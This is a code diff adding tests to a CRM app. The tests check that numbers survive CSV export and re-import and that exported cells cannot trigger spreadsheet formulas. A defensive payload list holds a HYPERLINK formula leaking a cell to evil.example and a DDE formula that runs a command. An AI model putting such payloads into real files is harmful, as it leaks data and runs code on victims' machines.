@@ -6,6 +6,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import re
 from datetime import timedelta
 
 import httpx
@@ -93,6 +94,88 @@ def test_signed_links_expire_and_refuse_tampering():
         verify_link("export-leads", forged, now=NOW, key=b"k")
     with pytest.raises(InvalidLink, match="something else"):
         verify_link("import", token, now=NOW, key=b"k")
+
+
+def test_export_then_import_keeps_numbers_numbers(session, tmp_path):
+    """A file with formatted numbers, imported, exported and imported again: every number stays a
+    number (deal value, company size, numeric custom fields), and the export writes them plainly."""
+    source = tmp_path / "crm.csv"
+    source.write_text(
+        "Name,Email,Amount,Employees,Budget,Share,Tiny\n"
+        'Mia Numbers,mia@example.com,"$12,000.50","1,532","€ 3 400",12%,0.00001\n'
+        'Leo Numbers,leo@example.com,"1,200",45,"-2,500",7.5%,1e-7\n'
+    )
+    header = ["Name", "Email", "Amount", "Employees", "Budget", "Share", "Tiny"]
+    import_file(session, source, ImportMapping(columns=guess_mapping(header), defaults={"source": "website"}),
+                now=NOW)
+    first = {r.email: r for r in session.execute(text(
+        "SELECT email, deal_value, company_size, custom_fields FROM leads "
+        "WHERE email IN ('mia@example.com', 'leo@example.com')")).all()}
+    assert first["mia@example.com"].custom_fields == {"Budget": 3400, "Share": 0.12, "Tiny": 0.00001}
+
+    rows = exported(session, LeadFilter(search="Numbers"))
+    mia = next(r for r in rows if r["Email"] == "mia@example.com")
+    assert (mia["Deal value"], mia["Company size"], mia["Budget"], mia["Share"]) == (
+        "12000.50", "1532", "3400", "0.12")
+    numbers = ("Deal value", "Company size", "Budget", "Share", "Tiny")
+    assert not any("," in r[k] for r in rows for k in numbers)
+
+    path = tmp_path / "export.csv"
+    path.write_text("".join(stream_leads_csv(session.connection(), LeadFilter(search="Numbers"))))
+    session.execute(text("DELETE FROM leads WHERE email IN ('mia@example.com', 'leo@example.com')"))
+    header = next(csv.reader(path.open()))
+    columns = {**guess_mapping(header), "Owner": "ignore", "Score": "ignore", "Tier": "ignore",
+               "Why (score reasons)": "ignore", "In stage since": "ignore", "Pipeline CRM id": "ignore"}
+    summary = import_file(session, path, ImportMapping(columns=columns), now=NOW)
+    assert summary.created == 2
+    again = {r.email: r for r in session.execute(text(
+        "SELECT email, deal_value, company_size, custom_fields FROM leads "
+        "WHERE email IN ('mia@example.com', 'leo@example.com')")).all()}
+    for email, before in first.items():
+        assert (again[email].deal_value, again[email].company_size, again[email].custom_fields) == (
+            before.deal_value, before.company_size, before.custom_fields)
+    assert session.execute(text(
+        "SELECT count(*) FROM leads, jsonb_each(custom_fields) f WHERE email IN ('mia@example.com', "
+        "'leo@example.com') AND jsonb_typeof(f.value) <> 'number'")).scalar_one() == 0
+
+
+# The cells the penetration test put in through forms, the API and imports (issue #17, item 1).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,1)",
+    "-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "'=1+1",
+]
+
+
+def test_no_cell_of_an_export_starts_a_spreadsheet_formula_and_numbers_stay_numbers(session):
+    ria = make_user(session, "Ria Rep")
+    custom = {f"note {i}": text for i, text in enumerate(FORMULAS)}
+    custom.update({"=evil header": "x", "Budget": -5000, "Ratio": -0.25, "As text": "-12.5",
+                   "Phone 2": "+44 20 7946"})
+    lead = make_lead(session, FORMULAS[0], now=NOW, owner=ria, company="@SUM(1,1)", deal_value=1234567,
+                     activities=[(ActivityKind.PRICING_REQUEST, timedelta(minutes=20))])
+    lead.title, lead.phone, lead.external_id, lead.custom_fields = "=1+1", "+44 20 7946 0958", "-1+1", custom
+    session.add(lead)
+    session.commit()
+    text = "".join(stream_leads_csv(session.connection(), LeadFilter(owner_id=ria.id)))
+    header, row = list(csv.reader(io.StringIO(text)))
+    cells = dict(zip(header, row))
+
+    starts, number = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"), re.compile(r"-?\d+(\.\d+)?")
+    dangerous = [cell for cell in [*row, *header] if cell[:1] in starts and not number.fullmatch(cell)]
+    assert dangerous == []
+    # Every formula is kept, as text: one leading quote, which restore_cell takes off again.
+    from crm_app.services.exporting import restore_cell
+
+    for i, formula in enumerate(FORMULAS):
+        assert cells[f"note {i}"] == "'" + formula and restore_cell(cells[f"note {i}"]) == formula
+    assert (cells["Name"], cells["Company"], cells["Job title"]) == ("'" + FORMULAS[0], "'@SUM(1,1)", "'=1+1")
+    assert (cells["Phone"], cells["External id"]) == ("'+44 20 7946 0958", "'-1+1")
+    assert cells["'=evil header"] == "x"  # a custom field's name is a header cell like any other
+    assert cells["Why (score reasons)"].startswith("'+30 Asked for pricing")  # the generated reasons too
+    # Numbers are plain numbers: negative ones too, no thousands separators, no quote.
+    assert (cells["Budget"], cells["Ratio"], cells["As text"], cells["Deal value"]) == (
+        "-5000", "-0.25", "-12.5", "1234567.00")
+    assert cells["Score"].isdecimal() and cells["Pipeline CRM id"] == str(lead.id)
 
 
 # --- The download route: a link lasts only as long as the sign-in it was made in (issue #17, item 4) ---
